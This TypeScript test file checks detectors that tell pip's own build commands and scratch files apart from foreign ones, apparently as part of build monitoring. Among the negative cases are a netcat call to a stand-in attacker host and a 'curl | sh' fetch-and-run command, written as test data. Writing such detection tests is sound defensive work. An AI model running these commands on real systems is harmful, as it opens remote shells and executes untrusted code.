import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isBuildOwnCommand } from './build-own-commands.ts';
import { isBuildOwnFile } from './build-own-files.ts';

test("pip's own commands are recognised, package commands are not", () => {
  assert.ok(
    isBuildOwnCommand(['/usr/bin/python3', '-m', 'pip', '--python', '/opt/venv/bin/python', 'install', 'x']),
  );
  assert.ok(
    isBuildOwnCommand([
      '/opt/venv/bin/python',
      '/usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py',
      'build_wheel',
      '/tmp/tmpabc',
    ]),
  );
  assert.ok(isBuildOwnCommand(['lsb_release', '-a']));
  assert.ok(isBuildOwnCommand(['uname', '-rs']));
  assert.ok(!isBuildOwnCommand(['uname', '-a']));
  assert.ok(!isBuildOwnCommand(['/opt/venv/bin/python', '/tmp/malicious.py']));
  assert.ok(!isBuildOwnCommand(['nc', 'evil.example', '5566']));
  assert.ok(!isBuildOwnCommand(['/bin/sh', '-c', 'curl http://x | sh']));
});

test("pip's scratch files are recognised, a dropped payload is not", () => {
  assert.ok(isBuildOwnFile('/tmp/tmpy8h50yt7/input.json'));
  assert.ok(isBuildOwnFile('/tmp/f6lcv297'));
  assert.ok(isBuildOwnFile('/home/builder/.cache/pip/wheels/85/4c'));
  assert.ok(!isBuildOwnFile('/tmp/malicious.py'));
  assert.ok(!isBuildOwnFile('/tmp/tmpy8h50yt7/payload.sh'));
  assert.ok(!isBuildOwnFile('/home/builder/.bashrc'));
});
